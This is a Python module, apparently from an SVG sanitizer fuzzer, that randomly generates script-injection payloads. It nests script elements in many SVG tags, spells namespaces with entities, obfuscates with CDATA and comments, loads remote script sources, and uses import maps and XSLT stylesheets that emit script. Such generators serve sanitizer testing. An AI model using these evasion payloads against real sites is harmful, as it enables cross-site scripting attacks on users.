"""Payloads: elements with script, and style sheets that generate them."""

import urllib.parse

from .document import SVG, XHTML, XLINK, XSL

TYPES = [
    "",
    "",
    ' type="text/javascript"',
    ' type="application/ecmascript"',
    ' type="TEXT/JavaScript"',
    ' type="module"',
    ' type=""',
    ' type="text/jscript"',
    ' type="text/livescript"',
    ' type="application/x-javascript"',
    ' nonce="1"',
]
INSIDE = [
    "defs",
    "g",
    "symbol",
    "title",
    "desc",
    "metadata",
    "a",
    "text",
    "style",
    "switch",
    "mask",
    "pattern",
    "marker",
    "filter",
    "circle",
    "clipPath",
    "linearGradient",
    "animate",
    "set",
    "image",
    "use",
    "view",
    "unknown",
    "font",
    "tspan",
    "feImage",
    "foreignObject",
]


def cdata(document, script):
    form = document.random.choice(["plain", "cdata", "commented", "split", "references", "instruction", "element"])
    middle = script.index("(") if "(" in script else 3
    if form == "plain":
        return script.replace("&", "&amp;")
    if form == "cdata":
        return f"<![CDATA[{script}]]>"
    if form == "commented":
        return f"//<![CDATA[\n{script}\n//]]>"
    if form == "split":
        return f"{script[:middle]}<!-- ' \" > -->{script[middle:]}"
    if form == "references":
        return "".join(f"&#{'0' * document.random.randrange(4)}{ord(c)};" for c in script)
    if form == "instruction":
        return f"{script[:middle]}<?q \" ?>{script[middle:]}"
    return f"{script}<x><![CDATA[</script>]]></x>"


def script_plain(d):
    kind = d.random.choice(TYPES)
    d.add(d.element("script", [kind.strip()] if kind else [], cdata(d, d.script())))


def script_inside(d):
    name = d.random.choice(INSIDE)
    d.add(d.element(name, [], d.element("script", [], cdata(d, d.script()))))


def script_prefixed(d):
    prefix = d.random.choice(["s", "svg", "_", "é", "xhtml", "a.b-c", "on", "script", "SCRIPT", "ns0", "日本"])
    d.add(f'<{prefix}:script xmlns:{prefix}="{SVG}">{cdata(d, d.script())}</{prefix}:script>')


def script_namespace_spelled(d):
    space = "".join(f"&#{ord(c)};" if d.random.random() < 0.4 else c for c in d.random.choice([SVG, XHTML]))
    d.add(f'<q:script xmlns:q="{space}">{cdata(d, d.script())}</q:script>')


def script_xhtml(d):
    d.add(
        d.random.choice(
            [
                f'<h:script>{d.script()}</h:script>',
                f'<script xmlns="{XHTML}">{d.script()}</script>',
                d.foreign(f'<div xmlns="{XHTML}"><p>x</p><script>{d.script()}</script></div>'),
                f'<h:script src="{d.data_script()}"/>',
                f'<h:div><h:script src="http://{d.host}/js/{d.name}"/></h:div>',
            ]
        )
    )


def script_address(d):
    name = d.random.choice(["href", "xlink:href", "q:href"])
    if name == "q:href":
        d.attributes.append(f'xmlns:q="{XLINK}"')
    d.add(
        d.element(
            "script",
            [(name, d.random.choice([d.data_script(), f"http://{d.host}/js/{d.name}", f"//{d.host}/js/{d.name}"]))],
        )
    )


def script_deep(d):
    depth = d.random.choice([20, 120, 240])
    name = d.random.choice(["g", "a", "switch", "x"])
    d.add(f"<{name}>" * depth + d.element("script", [], d.script('<&')) + f"</{name}>" * depth)


def import_map(d):
    d.add(
        f'<h:script type="importmap">{{"imports":{{"a":"{d.data_script()}"}}}}</h:script><h:script type="module">import "a"</h:script>'
    )


def sheet(d, about="", inside=""):
    return (
        f'<xsl:stylesheet xmlns:xsl="{XSL}" version="1.0"{about}><xsl:template match="/"><h:html xmlns:h="{XHTML}"><h:body>'
        f'<h:script>{d.script("<&")}</h:script></h:body></h:html></xsl:template>{inside}</xsl:stylesheet>'
    )


def transform(d):
    kind = d.random.choice(["text/xsl", "application/xslt+xml", "text/xml", "application/xml", "Text/XSL"])
    form = d.random.choice(["embedded", "address", "data", "own"])
    if form == "embedded":
        d.before.append(f'<?xml-stylesheet type="{kind}" href="#s"?>')
        if d.random.random() < 0.5:
            d.subset.append("<!ATTLIST xsl:stylesheet id ID #REQUIRED>")
        d.add(sheet(d, ' id="s"'))
    elif form == "address":
        d.before.append(f"<?xml-stylesheet href='http://{d.host}/xsl/{d.name}' type='{kind}'?>")
    elif form == "data":
        d.before.append(f'<?xml-stylesheet type="{kind}" href="data:text/xml,{urllib.parse.quote(sheet(d))}"?>')
    else:
        d.before.append(f'<?xml-stylesheet type="{kind}" href="?"?>')
        d.namespaces["xsl"] = XSL
        d.attributes.append('xsl:version="1.0"')
        d.add(d.element("xsl:if" if not d.prefix else "g", ['test="1"']), f"<h:script>{d.script('<&')}</h:script>")
